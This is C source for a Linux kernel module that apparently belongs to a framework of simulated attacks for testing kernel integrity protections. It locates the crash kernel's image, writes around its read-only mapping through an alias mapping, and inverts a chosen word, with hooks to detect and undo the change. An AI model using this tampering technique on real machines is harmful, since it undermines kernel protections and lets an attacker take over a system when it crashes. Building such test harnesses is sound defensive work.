// SPDX-License-Identifier: GPL-2.0-only
/*
 * Overwrites a word of the crash kernel's image: whoever owns that has the
 * machine after the next crash. Linux maps the image read-only.
 */
#include <linux/errno.h>
#include <linux/io.h>
#include <linux/kernel.h>
#include <linux/kexec.h>
#include <linux/string.h>
#include <linux/types.h>

#include "attacks.h"

/* The word, and what it was. */
static u64 *word, word_old;

static int write_word(u64 value)
{
	u8 *alias = alias_map((const u8 *)word);

	if (!alias)
		return -ENOMEM;
	overwrite(alias, (const u8 *)&value, sizeof(value));
	alias_unmap(alias);
	return 0;
}

/* [SEGMENT [OFFSET]]: the word there, by default the first one of the last segment */
static int patch_crash_begin(struct attack *attack, char *argument)
{
	char *first = strsep(&argument, " ");
	struct kimage **image = (struct kimage **)symbol("kexec_crash_image");
	unsigned long number, offset = 0;
	int error;

	if (!image || !*image)
		return -ENOENT;
	number = (*image)->nr_segments - 1;
	if (first && *first && kstrtoul(first, 0, &number))
		return -EINVAL;
	if (argument && kstrtoul(argument, 0, &offset))
		return -EINVAL;
	if (number >= (*image)->nr_segments || offset % sizeof(u64) ||
	    offset >= (*image)->segment[number].memsz)
		return -ERANGE;
	word = phys_to_virt((*image)->segment[number].mem + offset);
	word_old = *word;
	error = write_word(~word_old);
	if (error)
		return error;
	snprintf(attack->about, sizeof(attack->about), "segment %lu+%#lx", number, offset);
	attack_mark(attack, NULL);
	return 0;
}

static bool patch_crash_present(struct attack *attack)
{
	return *word == ~word_old;
}

static void patch_crash_undo(struct attack *attack)
{
	if (patch_crash_present(attack))
		WARN_ON(write_word(word_old));
}

struct attack patch_crash = {
	.name = "patch-crash",
	.begin = patch_crash_begin,
	.undo = patch_crash_undo,
	.present = patch_crash_present,
};
